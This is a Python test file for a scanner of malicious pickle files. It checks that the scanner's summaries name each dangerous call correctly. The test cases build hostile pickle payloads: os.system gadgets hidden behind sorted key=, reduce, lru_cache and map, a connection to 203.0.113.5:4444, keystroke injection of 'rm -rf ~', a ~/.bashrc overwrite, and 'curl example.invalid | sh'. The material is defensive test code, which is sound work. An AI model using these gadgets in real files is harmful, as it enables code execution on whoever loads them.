"""Summaries that say exactly what a file does (docs/verdicts.md, "How a summary is built").

Each case is a real pickle written by Python's pickler (a __reduce__ naming the callable; the
callable is never called) that earlier versions explained wrongly: a connection called
"starts a process", an overwrite called "loads another payload", keystroke injection called
"opens the file", a harmless call headlined while the dangerous one hid in "+N", a key= function
called "not called on load" (sorted(items, key=os.system) calls it on every item), reduce said
to run os.system on its only item (it returns that item and calls nothing), a wrapper
called on load (functools.lru_cache(os.system)('id'), numpy.vectorize) said "not called", a decoy
first item of map(os.system, items) hiding the commands after it. The one line a reviewer reads
first must name the right action and argument, and every command must be in the findings."""

import functools
import itertools
import os
import pickle
import sys
import tempfile
import unittest

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
import mvtest  # noqa: E402
from mvtest import Call  # noqa: E402


def real(dotted):
    """The library callable itself: the pickler writes it as GLOBAL module name (it is never
    called). pandas comes from python3-pandas (scripts/setup.sh); the others are the standard
    library."""
    import importlib
    module, _, name = dotted.rpartition(".")
    return getattr(importlib.import_module(module), name)


# name -> (objects pickled in one list, text the summary must start with, texts it must not hold)
CASES = {
    "connection-not-process": (
        [Call(real("multiprocessing.connection.Client"), ("203.0.113.5", 4444))],
        "opens a network connection to `203.0.113.5:4444` on load", ["process"]),
    "overwrite-not-load": (
        [Call(real("pandas.io.pickle.to_pickle"), 1, "/home/u/.bashrc")],
        "writes a file `/home/u/.bashrc` on load", ["loads another"]),
    "keystrokes-not-open": (
        [Call(real("fcntl.ioctl"), 0, 0x5412, b"rm -rf ~\n")],
        "types keystrokes into the terminal `rm -rf ~` on load", ["opens the file"]),
    "dangerous-call-headlined": (
        [Call(real("tempfile.mkdtemp")),
         Call(real("dataclasses._create_fn"), "f", ["x"], ["return 1"])],
        "executes Python code `return 1` on load", ["temporary"]),
    "command-shown-not-module": (
        [Call(real("os.system"), "id")],
        "runs a shell command `id` on load", ["`os`"]),
    # key= functions: the partial carries the keyword, the Call invokes it during the load.
    "sorted-key-called": (
        [Call(functools.partial(sorted, key=real("os.system")), ["id"])],
        "runs a shell command `id` on load", ["not called"]),
    "min-key-positional-items": (
        [Call(functools.partial(min, key=real("os.system")), "id", "uname")],
        "runs a shell command `id` on load", ["not called"]),
    "nsmallest-key-called": (
        [Call(functools.partial(real("heapq.nsmallest"), key=real("os.system")), 1, ["id"])],
        "runs a shell command `id` on load", ["not called"]),
    "groupby-key-after-items": (
        [Call(list, Call(itertools.groupby, ["id"], real("os.system")))],
        "runs a shell command `id` on load", ["not called"]),
    # reduce(f, items, initial) calls f(initial, item): eval(source, {}) runs the source.
    "reduce-initial-and-item": (
        [Call(functools.reduce, eval, [{}], "__import__('os').system('id')")],
        "evaluates Python code `__import__('os').system('id')` on load", ["not called"]),
    # One item and no initial: reduce returns the item, os.system is never called.
    "reduce-one-item-calls-nothing": (
        [Call(functools.reduce, real("os.system"), ["id"])],
        "references posix.system, which runs a shell command (not called on load)", []),
    # Wrappers that call their function with the caller's arguments, called on load.
    "lru-cache-wrapper-called": (
        [Call(Call(functools.lru_cache, real("os.system")), "id")],
        "runs a shell command `id` on load", ["not called"]),
    "staticmethod-called": (
        [Call(Call(staticmethod, real("os.system")), "id")],
        "runs a shell command `id` on load", ["not called"]),
    "numpy-vectorize-each-element": (
        [Call(Call(real("numpy.vectorize"), real("os.system")), ["id"])],
        "runs a shell command `id` on load", ["not called"]),
    # A partial's bound __call__ and its documented .func attribute reach what it wraps.
    "partial-bound-call": (
        [Call(Call(getattr, functools.partial(real("os.system"), "id"), "__call__"))],
        "runs a shell command `id` on load", ["not called"]),
    "partial-func-attribute": (
        [Call(Call(getattr, functools.partial(real("os.system"), "x"), "func"), "id")],
        "runs a shell command `id` on load", ["not called"]),
    # iter(f, sentinel) calls f() until it returns the sentinel; a wrapper's __wrapped__ is f.
    "iter-sentinel-calls": (
        [Call(list, Call(iter, functools.partial(real("os.system"), "id"), 0))],
        "runs a shell command `id` on load", ["not called"]),
    "wrapped-attribute": (
        [Call(Call(getattr, Call(functools.lru_cache, real("os.system")), "__wrapped__"), "id")],
        "runs a shell command `id` on load", ["not called"]),
    "map-decoy-first-item": (
        [Call(list, Call(map, real("os.system"), ["true", "curl example.invalid | sh"]))],
        "runs a shell command `", []),
}


# name -> objects pickled in one list, for the tests below that check more than the summary.
OTHERS = {
    "starmap": [Call(list, Call(itertools.starmap, real("os.system"), [("id",)]))],
    "update-wrapper": [Call(functools.update_wrapper, len, abs)],
    "plain": [Call(sorted, ["b", "a"]), Call(max, 3, 4), Call(list, Call(filter, None, [1, 0]))],
}


class Explain(unittest.TestCase):
    @classmethod
    def setUpClass(cls):
        cls.tmp = tempfile.TemporaryDirectory()
        named = {n: pickle.dumps(c[0], protocol=2) for n, c in CASES.items()}
        named.update({n: pickle.dumps(objs, protocol=2) for n, objs in OTHERS.items()})
        cls.paths, cls.got = mvtest.scan_named_pickles(cls.tmp.name, named)

    def entry(self, name):
        return self.got[os.path.realpath(self.paths[name])]

    @classmethod
    def tearDownClass(cls):
        cls.tmp.cleanup()

    def test_summaries_name_the_action_and_argument(self):
        for name, (_, want, never) in CASES.items():
            with self.subTest(name):
                e = self.entry(name)
                self.assertEqual(e["verdict"], "unsafe", e)
                self.assertTrue(e["summary"].startswith(want), e["summary"])
                for bad in never:
                    self.assertNotIn(bad, e["summary"].split(" (+")[0])

    def test_every_item_applied_is_evidence(self):
        # Each item is a payload of its own: the second command is a finding too, not folded
        # into the first because both ran at one opcode.
        for name, commands in (("map-decoy-first-item", ["'true'", "'curl example.invalid | sh'"]),
                               ("min-key-positional-items", ["'id'", "'uname'"])):
            with self.subTest(name):
                e = self.entry(name)
                evidence = [f["evidence"] for f in e["findings"] if f["severity"] == "critical"]
                for c in commands:
                    self.assertTrue(any(c in ev for ev in evidence), (c, evidence))

    def test_starmap_item_is_the_argument_list(self):
        # starmap(os.system, [('id',)]) runs os.system('id'): the evidence is that call.
        e = self.entry("starmap")
        self.assertEqual(e["findings"][0]["evidence"], "posix.system('id')", e)

    def test_update_wrapper_is_not_cleared_as_a_wrapper(self):
        # update_wrapper(w, f) copies f's __dict__ into w: a call that changes its first
        # argument (a module's attributes, if w is one) stays for the rules to judge.
        e = self.entry("update-wrapper")
        self.assertNotEqual(e["verdict"], "safe", e)
        self.assertIn("update_wrapper", e["summary"])

    def test_plain_sorted_is_not_a_finding(self):
        # Without key= these builtins call nothing, nor does filter(None, items): no review.
        e = self.entry("plain")
        self.assertEqual(e["verdict"], "safe", e)

    def test_others_are_counted_after_the_headline(self):
        e = self.entry("dangerous-call-headlined")
        self.assertTrue(e["summary"].endswith("(+1 more dangerous finding)"), e["summary"])


if __name__ == "__main__":
    unittest.main()
